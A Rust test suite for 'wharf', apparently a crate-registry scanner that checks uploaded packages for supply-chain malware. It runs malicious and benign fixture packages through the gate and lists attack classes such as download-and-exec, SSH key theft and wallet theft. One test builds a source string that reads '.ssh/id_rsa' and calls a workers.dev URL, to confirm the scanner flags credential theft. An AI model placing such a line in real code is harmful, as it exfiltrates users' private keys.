//! The content scanner against hand-written packages: every directory under
//! `tests/fixtures/malicious` and `tests/fixtures/benign` is packaged into a real `.crate` file and
//! judged by the whole publish gate, as a first publish.
//!
//! Each fixture has an `EXPECT` file: `VERDICT [RULE]`. Malicious fixtures must reach at least that
//! verdict, with a finding of that rule; benign ones must stay at or below it.

#[path = "support/package_dir.rs"]
mod package_dir;

use std::path::{Path, PathBuf};

use package_dir::judge_package_dir;
use wharf_policy::engine::Evaluation;
use wharf_policy::Verdict;
use wharf_tarball::test_support::TarballBuilder;
use wharf_tarball::{process_tarball, Limits};

fn fixtures(kind: &str) -> Vec<PathBuf> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(kind);
    let mut dirs: Vec<PathBuf> = std::fs::read_dir(root)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.is_dir())
        .collect();
    dirs.sort();
    dirs
}

/// Packages a fixture directory as cargo would and runs the gate.
fn judge(dir: &Path) -> (Evaluation, String) {
    let evaluation = judge_package_dir(dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display()));
    let report = evaluation
        .findings
        .iter()
        .map(|f| format!("  [{}] {}: {}", f.severity.as_str(), f.rule, f.evidence))
        .collect::<Vec<_>>()
        .join("\n");
    (evaluation, report)
}

fn expectation(dir: &Path) -> (Verdict, Option<String>) {
    let text = std::fs::read_to_string(dir.join("EXPECT")).unwrap();
    let mut words = text.split_whitespace();
    let verdict = match words.next().unwrap() {
        "allow" => Verdict::Allow,
        "flag" => Verdict::Flag,
        "hold" => Verdict::Hold,
        "reject" => Verdict::Reject,
        other => panic!("unknown verdict {other}"),
    };
    (verdict, words.next().map(str::to_owned))
}

#[test]
fn malicious_fixtures_are_caught() {
    let mut failures = Vec::new();
    for dir in fixtures("malicious") {
        let (at_least, rule) = expectation(&dir);
        let (evaluation, report) = judge(&dir);
        let has_rule = rule
            .as_ref()
            .is_none_or(|r| evaluation.findings.iter().any(|f| &f.rule == r));
        if evaluation.verdict < at_least || !has_rule {
            failures.push(format!(
                "{}: {} (wanted at least {} with {:?})\n{report}",
                dir.display(),
                evaluation.verdict.as_str(),
                at_least.as_str(),
                rule
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[test]
fn benign_look_alikes_pass() {
    let mut failures = Vec::new();
    for dir in fixtures("benign") {
        let (at_most, _) = expectation(&dir);
        let (evaluation, report) = judge(&dir);
        if evaluation.verdict > at_most {
            failures.push(format!(
                "{}: {} (wanted at most {})\n{report}",
                dir.display(),
                evaluation.verdict.as_str(),
                at_most.as_str()
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[test]
fn every_incident_class_has_a_fixture() {
    let names: Vec<String> = fixtures("malicious")
        .iter()
        .map(|d| d.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    for class in [
        "ci-download-exec",
        "build-host-beacon",
        "ssh-env-workers",
        "wallet-telegram",
        "dropper-embedded-elf",
        "authorized-keys-backdoor",
        "fresh-dependency-curl-sh",
        "miner",
        "obfuscated-payload",
        "squatting-placeholder",
        "spam-readme",
        "keygen",
    ] {
        assert!(names.iter().any(|n| n == class), "missing fixture {class}");
    }
}

/// Hostile sources: nesting deep enough to overflow a parser, huge lines, bytes that are not
/// UTF-8. The scanner must finish, without panicking, and still see what the code does.
#[test]
fn hostile_sources_do_not_break_the_scanner() {
    let deep = format!(
        "fn f() {{ let _ = {}1{}; std::fs::read(\".ssh/id_rsa\"); reqwest::blocking::get(\"https://x.workers.dev\"); }}",
        "(".repeat(50_000),
        ")".repeat(50_000)
    );
    let unary = format!("fn g() -> bool {{ {}true }}", "!".repeat(200_000));
    let closures = format!("fn h() {{ let _ = {}0; }}", "|| ".repeat(100_000));
    let else_ifs = format!(
        "fn k(x: u32) -> u32 {{ if x == 0 {{ 0 }} {} else {{ 1 }} }}",
        (1..20_000)
            .map(|i| format!("else if x == {i} {{ {i} }}"))
            .collect::<String>()
    );
    let generics = format!(
        "type T = {}u8{};",
        "Vec<".repeat(50_000),
        ">".repeat(50_000)
    );
    let long_line = format!("const S: &str = \"{}\";", "a".repeat(3_000_000));
    let mut not_utf8 = b"fn main() { let s = \"\xff\xfe\"; }\n".to_vec();
    not_utf8.extend_from_slice(&[0xC3, 0x28, b'\n']);
    let files: Vec<(&str, Vec<u8>)> = vec![
        (
            "src/lib.rs",
            b"mod a; mod b; mod c; mod d; mod e; mod f; mod g; mod h; mod i;".to_vec(),
        ),
        // Just under the bound: these go to `syn`, on the scanner's own large stack.
        (
            "src/h.rs",
            format!(
                "fn f() {{ let _ = {}1{}; }}",
                "[(".repeat(120),
                ")]".repeat(120)
            )
            .into_bytes(),
        ),
        (
            "src/i.rs",
            format!("fn g() -> bool {{ {}true }}", "!".repeat(2000)).into_bytes(),
        ),
        ("src/a.rs", deep.into_bytes()),
        ("src/b.rs", unary.into_bytes()),
        ("src/c.rs", closures.into_bytes()),
        ("src/d.rs", else_ifs.into_bytes()),
        ("src/e.rs", generics.into_bytes()),
        ("src/f.rs", long_line.into_bytes()),
        ("src/g.rs", not_utf8),
        (
            "build.rs",
            format!("fn main() {{ {} }}", "{".repeat(100_000)).into_bytes(),
        ),
    ];
    let mut builder = TarballBuilder::new().file(
        "hostile-0.1.0/Cargo.toml",
        "[package]\nname = \"hostile\"\nversion = \"0.1.0\"\nedition = \"2021\"\ndescription = \"x\"\nlicense = \"MIT\"\n",
    );
    for (path, data) in &files {
        builder = builder.file(&format!("hostile-0.1.0/{path}"), data);
    }
    let tarball =
        process_tarball("hostile", "0.1.0", &builder.build(), &Limits::default()).unwrap();
    let report = wharf_policy::scan::scan_package(&tarball);
    // The deeply nested file is walked as tokens, and its theft is still seen.
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.rule == "scan.credential-theft" && f.severity >= Verdict::Hold),
        "{:#?}",
        report.findings
    );
}
